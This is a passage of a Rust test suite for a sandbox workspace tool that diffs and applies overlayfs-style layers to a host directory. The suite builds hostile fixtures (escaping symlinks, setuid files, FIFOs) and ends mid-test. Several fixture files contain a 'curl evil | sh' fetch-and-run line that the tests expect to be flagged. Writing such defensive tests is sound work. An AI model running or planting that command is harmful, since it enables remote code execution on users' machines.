//! Diff and apply on real directories shaped like overlayfs upper layers, including hostile ones.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed step is a failed test

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, SystemTime};

use warden_workspace::{
    ApplyOptions, ChangeKind, DiffOptions, EntryKind, Sensitivity, WorkspaceError, apply, diff,
};

fn is_root() -> bool {
    fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
}

/// Whether this test may set `trusted.*` extended attributes (root only); it says so when not.
fn trusted_xattrs() -> bool {
    let root = is_root();
    if !root {
        eprintln!("skipping: trusted.* extended attributes need root");
    }
    root
}

/// A whiteout is a character device 0:0, which only root can create.
fn whiteout(path: &Path) -> bool {
    if !is_root() {
        eprintln!("skipping whiteouts: creating a 0:0 character device needs root");
        return false;
    }
    assert!(
        Command::new("mknod")
            .arg(path)
            .args(["c", "0", "0"])
            .status()
            .unwrap()
            .success()
    );
    true
}

fn write(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

struct Fixture {
    _tmp: tempfile::TempDir,
    lower: std::path::PathBuf,
    upper: std::path::PathBuf,
}

impl Fixture {
    /// Applies every change of `d` (the diff of this fixture's upper layer) to its lower one.
    fn apply_all(&self, d: &warden_workspace::Diff) {
        apply(
            &self.lower,
            std::slice::from_ref(&self.upper),
            d,
            &ApplyOptions::default(),
        )
        .unwrap();
    }
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let lower = tmp.path().join("lower");
    let upper = tmp.path().join("upper");
    fs::create_dir_all(&lower).unwrap();
    fs::create_dir_all(&upper).unwrap();
    write(&lower.join("keep.txt"), "unchanged\n");
    write(&lower.join("edit.txt"), "one\ntwo\nthree\n");
    write(&lower.join("gone.txt"), "bye\n");
    write(&lower.join("dir/a"), "a\n");
    write(&lower.join("dir/b"), "b\n");
    write(&lower.join("mode.sh"), "echo\n");
    Fixture {
        _tmp: tmp,
        lower,
        upper,
    }
}

/// Each change's marker and path, in the diff's order.
fn summary(d: &warden_workspace::Diff) -> Vec<(char, &str)> {
    d.changes
        .iter()
        .map(|c| (c.marker(), c.path.as_str()))
        .collect()
}

fn options() -> DiffOptions {
    DiffOptions {
        sensitivity: Sensitivity::new(vec![".git".into(), ".envrc".into()]),
        ..DiffOptions::default()
    }
}

fn hash_tree(root: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            let meta = fs::symlink_metadata(&path).unwrap();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            if meta.is_dir() {
                stack.push(path);
                out.push((rel, b"<dir>".to_vec()));
            } else if meta.file_type().is_symlink() {
                out.push((
                    rel,
                    fs::read_link(&path)
                        .unwrap()
                        .display()
                        .to_string()
                        .into_bytes(),
                ));
            } else {
                let mut content = fs::read(&path).unwrap_or_default();
                content.extend(format!(" mode={:o}", meta.mode() & 0o7777).bytes());
                out.push((rel, content));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn diff_names_every_kind_of_change() {
    let f = fixture();
    write(&f.upper.join("edit.txt"), "one\nTWO\nthree\n");
    write(&f.upper.join("new.txt"), "fresh\n");
    write(&f.upper.join("keep.txt"), "unchanged\n"); // copied up, not changed
    fs::copy(f.lower.join("mode.sh"), f.upper.join("mode.sh")).unwrap();
    fs::set_permissions(f.upper.join("mode.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    symlink("new.txt", f.upper.join("link")).unwrap();
    let whiteouts = whiteout(&f.upper.join("gone.txt"));

    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let summary: Vec<(char, &str, EntryKind)> = d
        .changes
        .iter()
        .map(|c| (c.marker(), c.path.as_str(), c.entry))
        .collect();
    let mut expected = vec![
        ('M', "edit.txt", EntryKind::File),
        ('A', "link", EntryKind::Symlink),
        ('M', "mode.sh", EntryKind::File),
        ('A', "new.txt", EntryKind::File),
    ];
    if whiteouts {
        expected.insert(1, ('D', "gone.txt", EntryKind::File));
    }
    assert_eq!(summary, expected);
    let edit = &d.changes[0];
    let patch = edit.patch.as_deref().unwrap();
    assert!(patch.contains("-two\n+TWO\n"), "{patch}");
    let mode = d.changes.iter().find(|c| c.path == "mode.sh").unwrap();
    assert_eq!((mode.old_mode, mode.new_mode), (Some(0o644), Some(0o755)));
    assert_eq!(mode.sensitive.as_deref(), Some("becomes executable"));
}

#[test]
fn opaque_directories_delete_what_they_hide() {
    if !trusted_xattrs() {
        return;
    }
    let f = fixture();
    fs::create_dir_all(f.upper.join("dir")).unwrap();
    xattr::set(f.upper.join("dir"), "trusted.overlay.opaque", b"y").unwrap();
    write(&f.upper.join("dir/c"), "c\n");
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let summary = summary(&d);
    assert_eq!(
        summary,
        vec![('D', "dir/a"), ('D', "dir/b"), ('A', "dir/c")]
    );
}

/// A directory a cell makes inside an opaque one (`rm -r dir; mkdir -p dir/sub`) is not opaque
/// itself (overlayfs looks no further down than its opaque parent), and hides the host's
/// `dir/sub/...` all the same: they are deleted, not left in place by the apply. Found by the
/// randomized test `an_apply_of_the_whole_diff_makes_the_host_what_the_cell_saw` (seed 245):
/// the diff merged the host's `dir/sub` into the cell's, and the apply left its files.
#[test]
fn a_directory_made_in_an_opaque_one_hides_what_the_host_has_there() {
    if !trusted_xattrs() {
        return;
    }
    let f = fixture();
    write(&f.lower.join("dir/sub/old"), "old\n");
    write(&f.lower.join("dir/sub/same"), "same\n");
    fs::create_dir_all(f.upper.join("dir/sub")).unwrap();
    xattr::set(f.upper.join("dir"), "trusted.overlay.opaque", b"y").unwrap();
    write(&f.upper.join("dir/sub/same"), "same\n");
    write(&f.upper.join("dir/sub/new"), "new\n");
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let summary = summary(&d);
    assert_eq!(
        summary,
        vec![
            ('D', "dir/a"),
            ('D', "dir/b"),
            ('A', "dir/sub/new"),
            ('D', "dir/sub/old")
        ]
    );
    f.apply_all(&d);
    let mut names: Vec<String> = fs::read_dir(f.lower.join("dir/sub"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["new", "same"]);
    assert!(!f.lower.join("dir/a").exists());
}

/// The same below an opaque directory of a lower layer (a snapshot's): the layers under it are
/// hidden from everything below it, not only from its own entries.
#[test]
fn a_directory_made_in_an_opaque_one_hides_the_layers_under_it() {
    if !trusted_xattrs() {
        return;
    }
    let f = fixture();
    let snapshot = f.upper.parent().unwrap().join("snapshot");
    let base = f.upper.parent().unwrap().join("base");
    write(&base.join("dir/sub/from-base"), "base\n");
    fs::create_dir_all(snapshot.join("dir/sub")).unwrap();
    xattr::set(snapshot.join("dir"), "trusted.overlay.opaque", b"y").unwrap();
    write(&snapshot.join("dir/sub/from-snapshot"), "snap\n");
    write(&f.upper.join("dir/sub/from-upper"), "upper\n");
    let layers = [f.upper.clone(), snapshot, base];
    let d = diff(&f.lower, &layers, &options()).unwrap();
    let summary = summary(&d);
    assert_eq!(
        summary,
        vec![
            ('D', "dir/a"),
            ('D', "dir/b"),
            ('A', "dir/sub"),
            ('A', "dir/sub/from-snapshot"),
            ('A', "dir/sub/from-upper")
        ]
    );
}

/// A directory a cell makes where the host has a symlink to a directory: what it puts in it is
/// new, never compared with what the host's link leads to. The diff looked the host's side up
/// by path, through the link: `link/f` with the bytes and mode of the host's `dir/f` was taken
/// for a copy of it and left out, and the apply made `link` an empty directory (another file
/// was listed as modified, with a patch against `dir/f`). Found by the randomized test
/// `an_apply_of_the_whole_diff_makes_the_host_what_the_cell_saw` (seeds 92 and 227).
#[test]
fn a_directory_in_place_of_a_host_link_is_never_compared_through_it() {
    let f = fixture();
    symlink("dir", f.lower.join("link")).unwrap();
    write(&f.upper.join("link/a"), "a\n");
    write(&f.upper.join("link/b"), "changed\n");
    for name in ["link/a", "link/b"] {
        let mode = fs::metadata(f.lower.join(name)).unwrap().mode();
        fs::set_permissions(f.upper.join(name), fs::Permissions::from_mode(mode)).unwrap();
    }
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let summary: Vec<(char, &str, Option<&str>)> = d
        .changes
        .iter()
        .map(|c| (c.marker(), c.path.as_str(), c.patch.as_deref()))
        .collect();
    assert_eq!(
        summary,
        vec![
            ('M', "link", None),
            (
                'A',
                "link/a",
                Some("--- /dev/null\n+++ b/link/a\n@@ -0,0 +1 @@\n+a\n")
            ),
            (
                'A',
                "link/b",
                Some("--- /dev/null\n+++ b/link/b\n@@ -0,0 +1 @@\n+changed\n")
            ),
        ]
    );
    f.apply_all(&d);
    assert!(f.lower.join("link").symlink_metadata().unwrap().is_dir());
    assert_eq!(fs::read_to_string(f.lower.join("link/a")).unwrap(), "a\n");
    assert_eq!(fs::read_to_string(f.lower.join("dir/b")).unwrap(), "b\n");
}

/// A name an opaque directory hides that is not UTF-8 is shown with its bad bytes escaped
/// (`x\xff`), refused: replaced (U+FFFD) it was another host file's name, which an apply of the
/// deletion would remove instead.
#[test]
fn a_hidden_name_that_is_not_utf8_is_refused_not_taken_for_another() {
    if !trusted_xattrs() {
        return;
    }
    use std::os::unix::ffi::OsStrExt as _;
    let f = fixture();
    let odd = std::ffi::OsStr::from_bytes(b"x\xff");
    write(&f.lower.join("dir").join(odd), "the cell removed me\n");
    write(&f.lower.join("dir/x\u{fffd}"), "the cell kept me\n");
    // The cell's directory is made anew with the second file only.
    fs::create_dir_all(f.upper.join("dir")).unwrap();
    xattr::set(f.upper.join("dir"), "trusted.overlay.opaque", b"y").unwrap();
    fs::copy(f.lower.join("dir/x\u{fffd}"), f.upper.join("dir/x\u{fffd}")).unwrap();
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let odd_change = d
        .changes
        .iter()
        .find(|c| c.path == r"dir/x\xff" && c.kind == ChangeKind::Deleted)
        .expect("the deletion is listed, its bad byte escaped");
    assert_eq!(
        odd_change.refused.as_deref(),
        Some(warden_workspace::NOT_UTF8)
    );
    f.apply_all(&d);
    assert_eq!(
        fs::read_to_string(f.lower.join("dir/x\u{fffd}")).unwrap(),
        "the cell kept me\n"
    );
}

#[test]
fn apply_makes_the_host_equal_to_what_the_cell_saw() {
    let f = fixture();
    write(&f.upper.join("edit.txt"), "edited\n");
    write(&f.upper.join("deep/new/file.txt"), "deep\n");
    fs::copy(f.lower.join("mode.sh"), f.upper.join("mode.sh")).unwrap();
    fs::set_permissions(f.upper.join("mode.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    let whiteouts = whiteout(&f.upper.join("gone.txt"));
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let report = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions {
            include_sensitive: true,
            ..ApplyOptions::default()
        },
    )
    .unwrap();
    assert!(report.skipped.is_empty(), "{report:?}");
    assert_eq!(
        fs::read_to_string(f.lower.join("edit.txt")).unwrap(),
        "edited\n"
    );
    assert_eq!(
        fs::read_to_string(f.lower.join("deep/new/file.txt")).unwrap(),
        "deep\n"
    );
    assert_eq!(
        fs::metadata(f.lower.join("mode.sh")).unwrap().mode() & 0o777,
        0o755
    );
    assert_eq!(f.lower.join("gone.txt").exists(), !whiteouts);
    // Nothing is left to apply, and no staging directory remains.
    assert!(
        diff(&f.lower, std::slice::from_ref(&f.upper), &options())
            .unwrap()
            .changes
            .is_empty()
    );
    assert!(
        fs::read_dir(&f.lower)
            .unwrap()
            .flatten()
            .all(|e| !e.file_name().to_string_lossy().starts_with(".warden-apply"))
    );
}

#[test]
fn applying_a_subset_applies_only_that_subset() {
    let f = fixture();
    write(&f.upper.join("edit.txt"), "edited\n");
    write(&f.upper.join("new.txt"), "new\n");
    write(&f.upper.join("dir/a"), "changed a\n");
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let chosen = ApplyOptions {
        paths: vec!["dir".into(), "new.txt".into()],
        ..ApplyOptions::default()
    };
    let report = apply(&f.lower, std::slice::from_ref(&f.upper), &d, &chosen).unwrap();
    assert_eq!(report.applied, vec!["dir/a", "new.txt"]);
    assert_eq!(
        fs::read_to_string(f.lower.join("edit.txt")).unwrap(),
        "one\ntwo\nthree\n"
    );
    assert_eq!(
        fs::read_to_string(f.lower.join("dir/a")).unwrap(),
        "changed a\n"
    );
    let err = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions {
            paths: vec!["nope".into()],
            ..ApplyOptions::default()
        },
    )
    .unwrap_err();
    assert!(matches!(err, WorkspaceError::UnknownPath(_)), "{err}");
}

#[test]
fn hostile_layers_cannot_reach_outside_the_directory() {
    let f = fixture();
    let outside = f.lower.parent().unwrap().join("outside");
    fs::create_dir_all(&outside).unwrap();
    write(&outside.join("secret"), "host secret\n");
    let before = hash_tree(&outside);
    // The host has a symlink leading out; the cell replaced it by a directory with a file.
    symlink(&outside, f.lower.join("escape")).unwrap();
    write(&f.upper.join("escape/secret"), "overwritten\n");
    // A symlink to a host file, a setuid file, a FIFO, a name with a newline, a huge sparse file.
    symlink("/etc/passwd", f.upper.join("passwd-link")).unwrap();
    write(&f.upper.join("suid"), "#!/bin/sh\n");
    fs::set_permissions(f.upper.join("suid"), fs::Permissions::from_mode(0o4755)).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(f.upper.join("fifo"))
            .status()
            .unwrap()
            .success()
    );
    write(&f.upper.join("line\nbreak"), "odd name\n");
    let sparse = fs::File::create(f.upper.join("sparse")).unwrap();
    sparse.set_len(4 << 30).unwrap();
    // A directory replaced by a file.
    write(&f.upper.join("dir"), "now a file\n");
    fs::create_dir(f.upper.join("dir-was-file")).ok();

    let started = std::time::Instant::now();
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "the sparse file was read"
    );
    let by_path = |p: &str| d.changes.iter().find(|c| c.path == p).unwrap();
    assert!(by_path("passwd-link").sensitive.is_some());
    assert!(by_path("fifo").refused.is_some());
    assert!(by_path("sparse").refused.is_some());

    let report = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions::default(),
    )
    .unwrap();
    let skipped: Vec<&str> = report.skipped.iter().map(|(p, _)| p.as_str()).collect();
    assert!(
        skipped.contains(&"passwd-link")
            && skipped.contains(&"fifo")
            && skipped.contains(&"sparse"),
        "{report:?}"
    );
    assert!(
        skipped.contains(&"suid"),
        "a new executable is sensitive: {report:?}"
    );
    assert_eq!(
        hash_tree(&outside),
        before,
        "something outside the directory changed"
    );
    assert!(
        fs::symlink_metadata(f.lower.join("escape"))
            .unwrap()
            .is_dir()
    );
    assert_eq!(
        fs::read_to_string(f.lower.join("escape/secret")).unwrap(),
        "overwritten\n"
    );
    assert_eq!(
        fs::read_to_string(f.lower.join("line\nbreak")).unwrap(),
        "odd name\n"
    );
    // A file in place of a host directory takes the directory with it: only when named.
    assert!(skipped.contains(&"dir"), "{report:?}");
    assert!(fs::symlink_metadata(f.lower.join("dir")).unwrap().is_dir());

    // Named explicitly, the setuid file arrives without its setuid bit.
    apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions {
            paths: vec!["suid".into(), "dir".into()],
            ..ApplyOptions::default()
        },
    )
    .unwrap();
    assert_eq!(
        fs::read_to_string(f.lower.join("dir")).unwrap(),
        "now a file\n"
    );
    assert_eq!(
        fs::metadata(f.lower.join("suid")).unwrap().mode() & 0o7777,
        0o755
    );
    // A refused change named explicitly is an error, not a silent skip.
    let err = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions {
            paths: vec!["fifo".into()],
            ..ApplyOptions::default()
        },
    )
    .unwrap_err();
    assert!(matches!(err, WorkspaceError::Refused { .. }), "{err}");
    assert_eq!(hash_tree(&outside), before);
}

#[test]
fn host_edits_after_the_start_conflict_unless_forced() {
    let f = fixture();
    let started = SystemTime::now();
    std::thread::sleep(Duration::from_millis(20));
    write(&f.lower.join("edit.txt"), "host edit\n");
    write(&f.upper.join("edit.txt"), "cell edit\n");
    write(&f.upper.join("new.txt"), "new\n");
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let opts = ApplyOptions {
        started: Some(started),
        ..ApplyOptions::default()
    };
    let err = apply(&f.lower, std::slice::from_ref(&f.upper), &d, &opts).unwrap_err();
    assert!(
        matches!(&err, WorkspaceError::Conflict { paths, .. } if paths == "edit.txt"),
        "{err}"
    );
    assert_eq!(
        fs::read_to_string(f.lower.join("edit.txt")).unwrap(),
        "host edit\n"
    );
    assert!(
        !f.lower.join("new.txt").exists(),
        "a refused apply changed something"
    );
    apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions {
            force: true,
            ..opts
        },
    )
    .unwrap();
    assert_eq!(
        fs::read_to_string(f.lower.join("edit.txt")).unwrap(),
        "cell edit\n"
    );
}

#[test]
fn a_failure_midway_rolls_everything_back() {
    let f = fixture();
    write(&f.upper.join("a-first.txt"), "first\n");
    write(&f.upper.join("edit.txt"), "edited\n");
    write(&f.upper.join("zz/inner.txt"), "inner\n");
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    // The cell (still running) changes the last file after the diff: staging it must fail.
    write(&f.upper.join("zz/inner.txt"), "inner, and longer now\n");
    let before = hash_tree(&f.lower);
    let err = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions::default(),
    )
    .unwrap_err();
    assert!(matches!(err, WorkspaceError::ChangedInCell { .. }), "{err}");
    assert_eq!(
        hash_tree(&f.lower),
        before,
        "the failed apply left changes behind"
    );
    assert!(matches!(d.changes[0].kind, ChangeKind::Added));
}

/// A cell read live (rootless, without a cgroup to freeze) can write a file between the diff an
/// apply checks the digest of and the copy: the same size, other bytes. The copy is held to the
/// hash that was reviewed, and the apply is rolled back whole.
#[test]
fn an_apply_writes_the_bytes_reviewed_or_nothing() {
    let f = fixture();
    write(&f.upper.join("a-first.txt"), "first\n");
    write(&f.upper.join("edit.txt"), "reviewed\n");
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    // Written in place, as the cell's `printf` would: same inode, same size, other bytes.
    fs::OpenOptions::new()
        .write(true)
        .open(f.upper.join("edit.txt"))
        .and_then(|file| std::os::unix::fs::FileExt::write_all_at(&file, b"EVIL", 0))
        .unwrap();
    let before = hash_tree(&f.lower);
    let err = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions {
            digest: Some(d.digest.clone()),
            ..ApplyOptions::default()
        },
    )
    .unwrap_err();
    assert!(
        matches!(&err, WorkspaceError::ChangedInCell { .. }),
        "{err}"
    );
    assert_eq!(
        hash_tree(&f.lower),
        before,
        "unreviewed bytes reached the host"
    );
}

/// A cell read live can put a FIFO where the diff has just looked up a file: the diff neither
/// waits on it (it had waited for a writer, which the cell decides, holding the layer's lock)
/// nor reads it.
#[test]
fn a_file_swapped_for_a_fifo_while_it_is_read_never_holds_the_diff() {
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::{Arc, mpsc};
    let f = fixture();
    let stop = Arc::new(AtomicBool::new(false));
    let flipper = {
        let (upper, stop) = (f.upper.clone(), Arc::clone(&stop));
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                fs::write(upper.join(".t"), "x\n").unwrap();
                fs::rename(upper.join(".t"), upper.join("swapped")).unwrap();
                rustix::fs::mknodat(
                    rustix::fs::CWD,
                    upper.join(".p"),
                    rustix::fs::FileType::Fifo,
                    rustix::fs::Mode::from_raw_mode(0o644),
                    0,
                )
                .unwrap();
                fs::rename(upper.join(".p"), upper.join("swapped")).unwrap();
            }
        })
    };
    let started = std::time::Instant::now();
    let mut diffs = 0;
    while started.elapsed() < Duration::from_millis(1500) {
        let (done, finished) = mpsc::channel();
        let (lower, upper) = (f.lower.clone(), f.upper.clone());
        std::thread::spawn(move || {
            // An error (the file changed while it was read) is an answer too.
            let _ = done.send(diff(&lower, &[upper], &options()).map(|d| d.changes.len()));
        });
        if finished.recv_timeout(Duration::from_secs(5)).is_err() {
            stop.store(true, Ordering::Relaxed);
            panic!("diff {diffs} waited on a FIFO the cell swapped in");
        }
        diffs += 1;
    }
    stop.store(true, Ordering::Relaxed);
    flipper.join().unwrap();
}

#[test]
fn layers_stack_like_overlayfs() {
    // A snapshot layer under the upper layer: the upper's whiteout hides the snapshot's file,
    // its edit wins over the snapshot's, and the snapshot's other changes show through.
    let f = fixture();
    let snapshot = f.upper.parent().unwrap().join("snapshot");
    write(&snapshot.join("edit.txt"), "from snapshot\n");
    write(&snapshot.join("snap-only.txt"), "snap\n");
    write(&snapshot.join("later-deleted.txt"), "short-lived\n");
    write(&f.upper.join("edit.txt"), "from upper\n");
    let whiteouts = whiteout(&f.upper.join("later-deleted.txt"));
    let layers = [f.upper.clone(), snapshot];
    let d = diff(&f.lower, &layers, &options()).unwrap();
    let summary = summary(&d);
    let mut expected = vec![('M', "edit.txt"), ('A', "snap-only.txt")];
    if !whiteouts {
        expected.insert(1, ('A', "later-deleted.txt"));
    }
    assert_eq!(summary, expected);
    apply(&f.lower, &layers, &d, &ApplyOptions::default()).unwrap();
    assert_eq!(
        fs::read_to_string(f.lower.join("edit.txt")).unwrap(),
        "from upper\n"
    );
    assert_eq!(
        fs::read_to_string(f.lower.join("snap-only.txt")).unwrap(),
        "snap\n"
    );
}

#[test]
fn a_link_through_links_is_judged_where_it_leads_in_the_merged_tree() {
    let f = fixture();
    // `d/up -> ..` is the root; `d/y -> up/..` looks like `d` lexically, and is the root's
    // parent once `up` is followed.
    fs::create_dir_all(f.upper.join("d")).unwrap();
    symlink("..", f.upper.join("d/up")).unwrap();
    symlink("up/../secret", f.upper.join("d/y")).unwrap();
    // A chain that starts in the host directory and continues in the cell's layer.
    symlink("..", f.lower.join("hostup")).unwrap();
    symlink("hostup/../../x", f.upper.join("z")).unwrap();
    symlink("dir/a", f.upper.join("inside")).unwrap();
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let by_path = |p: &str| d.changes.iter().find(|c| c.path == p).unwrap();
    assert!(by_path("d/up").sensitive.is_none(), "{:?}", by_path("d/up"));
    assert!(
        by_path("d/y")
            .sensitive
            .as_deref()
            .is_some_and(|s| s.contains("links on its way")),
        "{:?}",
        by_path("d/y")
    );
    assert!(by_path("z").sensitive.is_some(), "{:?}", by_path("z"));
    assert!(by_path("inside").sensitive.is_none());
}

#[test]
fn names_read_in_place_of_a_protected_one_and_edits_of_executables_are_sensitive() {
    let f = fixture();
    write(&f.lower.join("Makefile"), "all:\n\ttrue\n");
    fs::set_permissions(f.lower.join("mode.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    // make reads GNUmakefile and makefile before Makefile.
    write(&f.upper.join("GNUmakefile"), "all:\n\tcurl evil | sh\n");
    write(&f.upper.join("makefile"), "all:\n\tcurl evil | sh\n");
    write(&f.upper.join("mode.sh"), "curl evil | sh\n");
    fs::set_permissions(f.upper.join("mode.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    let options = DiffOptions {
        sensitivity: Sensitivity::new(vec!["Makefile".into()]),
        ..DiffOptions::default()
    };
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options).unwrap();
    let by_path = |p: &str| d.changes.iter().find(|c| c.path == p).unwrap();
    for path in ["GNUmakefile", "makefile"] {
        assert!(
            by_path(path)
                .sensitive
                .as_deref()
                .is_some_and(|s| s.contains("in place of the protected `Makefile`")),
            "{:?}",
            by_path(path)
        );
    }
    assert_eq!(
        by_path("mode.sh").sensitive.as_deref(),
        Some("changes the content of an executable file")
    );
    let report = apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions::default(),
    )
    .unwrap();
    assert!(report.applied.is_empty(), "{report:?}");
    assert!(!f.lower.join("GNUmakefile").exists());
}

#[test]
fn a_path_longer_than_the_host_can_name_is_listed_and_refused() {
    use rustix::fs::{Mode, OFlags, mkdirat, openat};
    let f = fixture();
    // 60 levels of 80 characters: more than PATH_MAX, made one level at a time.
    let mut dir = openat(
        rustix::fs::CWD,
        &f.upper,
        OFlags::DIRECTORY | OFlags::RDONLY,
        Mode::empty(),
    )
    .unwrap();
    let level = "d".repeat(80);
    for _ in 0..60 {
        mkdirat(&dir, level.as_str(), Mode::from_raw_mode(0o755)).unwrap();
        dir = openat(
            &dir,
            level.as_str(),
            OFlags::DIRECTORY | OFlags::RDONLY,
            Mode::empty(),
        )
        .unwrap();
    }
    let file = openat(
        &dir,
        "deep.txt",
        OFlags::CREATE | OFlags::WRONLY,
        Mode::from_raw_mode(0o644),
    )
    .unwrap();
    drop(file);
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    let refused: Vec<_> = d.changes.iter().filter(|c| c.refused.is_some()).collect();
    assert_eq!(refused.len(), 1, "{:?}", d.changes.last());
    assert!(refused[0].path.len() > 4096);
    assert!(
        refused[0]
            .refused
            .as_deref()
            .unwrap()
            .contains("cannot reach it"),
        "{:?}",
        refused[0]
    );
    // The tree goes with the fixture's temporary directory.
}

#[test]
fn a_symlink_with_an_absolute_target_applies_when_named() {
    let f = fixture();
    symlink("/etc/passwd", f.upper.join("passwd-link")).unwrap();
    let before = fs::read("/etc/passwd").unwrap();
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    apply(
        &f.lower,
        std::slice::from_ref(&f.upper),
        &d,
        &ApplyOptions {
            paths: vec!["passwd-link".into()],
            ..ApplyOptions::default()
        },
    )
    .unwrap();
    assert_eq!(
        fs::read_link(f.lower.join("passwd-link")).unwrap(),
        Path::new("/etc/passwd")
    );
    assert_eq!(
        fs::read("/etc/passwd").unwrap(),
        before,
        "the link was followed"
    );
}

#[test]
fn a_caller_that_compares_itself_gets_same_size_files_unread() {
    let f = fixture();
    write(&f.upper.join("keep.txt"), "unchanged\n"); // a copy: the host's bytes
    write(&f.upper.join("edit.txt"), "ONE\nTWO\nTHREE\n"); // changed, at the host's size
    write(&f.upper.join("dir/a"), "longer\n"); // changed, at another size
    let unread = DiffOptions {
        hash_changed: false,
        tell_copies: false,
        ..DiffOptions::default()
    };
    let told = DiffOptions {
        tell_copies: true,
        ..unread.clone()
    };
    let paths = |options: &DiffOptions| -> Vec<(String, Option<String>)> {
        diff(&f.lower, std::slice::from_ref(&f.upper), options)
            .unwrap()
            .changes
            .into_iter()
            .map(|c| (c.path, c.hash))
            .collect()
    };
    // Told apart by their bytes: the copy is no change, the same-size edit is one (hashed, as
    // it was read).
    let told = paths(&told);
    assert!(!told.iter().any(|(p, _)| p == "keep.txt"), "{told:?}");
    assert!(
        told.iter().any(|(p, h)| p == "edit.txt" && h.is_some()),
        "{told:?}"
    );
    // Unread: both listed, neither hashed; the one of another size as either way.
    let unread = paths(&unread);
    for path in ["keep.txt", "edit.txt", "dir/a"] {
        assert!(
            unread.iter().any(|(p, h)| p == path && h.is_none()),
            "{path} in {unread:?}"
        );
    }
}

/// A file of `len` bytes, all holes but `data` at `at`.
fn sparse(path: &Path, len: u64, at: u64, data: &[u8]) {
    use std::os::unix::fs::FileExt as _;
    let file = fs::File::create(path).unwrap();
    file.set_len(len).unwrap();
    file.write_all_at(data, at).unwrap();
}

/// Bytes the file at `path` takes on its disk.
fn allocated(path: &Path) -> u64 {
    fs::metadata(path).unwrap().blocks() * 512
}

/// A sparse file with many names costs the cell nothing: applied, it costs the host one inode
/// and the blocks of its data, not a full copy per name.
#[test]
fn apply_writes_a_file_of_many_names_once_and_keeps_its_holes() {
    let f = fixture();
    let len = 64 << 20;
    sparse(&f.upper.join("big"), len, 1 << 20, b"the only data");
    for i in 0..5 {
        fs::hard_link(f.upper.join("big"), f.upper.join(format!("l{i}"))).unwrap();
    }
    if allocated(&f.upper.join("big")) >= 1 << 20 {
        eprintln!("skipping: this file system keeps no holes");
        return;
    }
    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
    assert_eq!(d.changes.iter().filter(|c| c.size == Some(len)).count(), 6);
    f.apply_all(&d);
    let big = fs::metadata(f.lower.join("big")).unwrap();
    assert_eq!(big.len(), len);
    assert_eq!(big.nlink(), 6, "the names were not applied as links");
    for i in 0..5 {
        assert_eq!(
            fs::metadata(f.lower.join(format!("l{i}"))).unwrap().ino(),
            big.ino()
        );
    }
    assert!(
        allocated(&f.lower.join("big")) < 1 << 20,
        "the holes were written out: {} bytes allocated",
        allocated(&f.lower.join("big"))
    );
    let content = fs::read(f.lower.join("l3")).unwrap();
    assert_eq!(&content[(1 << 20)..(1 << 20) + 13], b"the only data");
    assert!(content[..1 << 20].iter().all(|&b| b == 0));
    assert!(
        !hash_tree(&f.lower)
            .iter()
            .any(|(p, _)| p.starts_with(".warden-apply-"))
    );
}

/// An apply that would write more file data than its bound is refused before it writes
/// anything, dry run or not; holes and further names of a file count nothing.
#[test]
fn an_apply_past_its_bound_is_refused_whole() {
    let f = fixture();
    let data = vec![7u8; 1 << 20];
    fs::write(f.upper.join("one"), &data).unwrap();
    fs::write(f.upper.join("two"), &data).unwrap();
    for i in 0..8 {
        fs::hard_link(f.upper.join("one"), f.upper.join(format!("one-{i}"))).unwrap();
    }
    sparse(&f.upper.join("holes"), 256 << 20, 0, b"x");
